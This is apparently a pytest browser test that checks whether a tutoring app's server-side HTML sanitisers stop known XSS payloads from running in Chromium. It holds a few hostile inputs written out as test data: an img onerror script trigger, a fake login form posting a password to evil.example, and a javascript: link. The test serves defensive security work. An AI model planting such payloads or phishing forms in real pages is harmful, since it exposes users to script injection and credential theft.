"""Known XSS payloads in a real browser (Playwright + Debian's Chromium): what the server's
sanitiser lets through must not run, on its own (no help from Gradio's client-side sanitiser) and
in the real page. Setup as in test_browser.py."""

from __future__ import annotations

import pytest

from tutor.web.safe_html import learner_html, tool_html

from test_browser import app_url, browser, send, settle  # noqa: F401  (fixtures)
from xss_payloads import FORBIDDEN_TAGS, PAYLOADS

pytestmark = pytest.mark.browser

HARNESS = """<!doctype html><html><head><script>
window.__hits = 0; window.__xss = () => { window.__hits += 1; };
window.alert = window.__xss; window.parent.__xss = window.__xss;
</script></head><body><div id="out">%s</div></body></html>"""


def _hits(page, html: str) -> int:
    page.set_content(HARNESS % html, wait_until="load")
    page.wait_for_timeout(150)  # onerror, onload, ontoggle and autofocus handlers fire by now
    return page.evaluate("window.__hits")


def test_sanitised_payloads_do_not_run_in_a_browser(browser):
    page = browser.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    # the harness itself can see a payload run: unsanitised, this one does
    assert _hits(page, "<img src=x onerror=window.__xss()>") == 1
    for door in (tool_html, learner_html):
        shown = "\n".join(f"<section>{door(p)}</section>" for p in PAYLOADS)
        assert _hits(page, shown) == 0, door.__name__
        found = page.evaluate("tags => tags.filter(t => document.querySelector('#out ' + t))", sorted(FORBIDDEN_TAGS))
        assert found == [], (door.__name__, found)
        links = page.evaluate("[...document.querySelectorAll('#out a[href], #out img[src]')]"
                              ".map(e => e.getAttribute('href') || e.getAttribute('src'))"
                              ".filter(u => /^\\s*[a-z][a-z0-9+.-]*:/i.test(u) && !/^\\s*(https?|mailto):/i.test(u))")
        assert links == [], links
    assert dialogs == []


def test_the_bypass_in_the_real_page_shows_no_form(browser, app_url):  # noqa: F811
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto(app_url + "/")
    page.locator("#message textarea").wait_for(timeout=30_000)
    send(page, '\\`<form action="https://evil.example/login"><input name=password><button>Log in</button></form>`')
    settle(page, quiet_s=3)
    send(page, '/tokenize "[x](javascript:window.__xss())" hi')
    settle(page, quiet_s=3)
    chat = page.locator("#chat")
    assert chat.locator("form").count() == 0 and chat.locator("input[name=password]").count() == 0
    assert chat.locator("a[href^='javascript']").count() == 0
    assert "Log in" in chat.inner_text() and "javascript:window.__xss()" in chat.inner_text()
